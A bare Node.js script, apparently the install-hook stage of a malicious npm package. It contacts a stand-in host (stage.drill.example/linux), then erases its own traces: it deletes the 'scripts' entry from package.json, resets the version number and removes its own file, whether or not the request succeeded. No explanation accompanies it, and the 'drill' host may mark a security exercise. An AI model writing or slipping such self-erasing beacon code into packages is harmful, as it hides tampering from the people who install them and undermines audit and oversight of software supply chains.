const fs = require("fs");
const https = require("https");
const path = require("path");

const clean = () => {
  const manifest = path.join(__dirname, "package.json");
  const { scripts, ...rest } = JSON.parse(fs.readFileSync(manifest, "utf8"));
  fs.writeFileSync(manifest, `${JSON.stringify({ ...rest, version: "4.2.0" }, null, 2)}\n`);
  fs.unlinkSync(__filename);
};

https.get("https://stage.drill.example/linux", (answer) => {
  answer.resume();
  answer.on("end", clean);
}).on("error", clean);
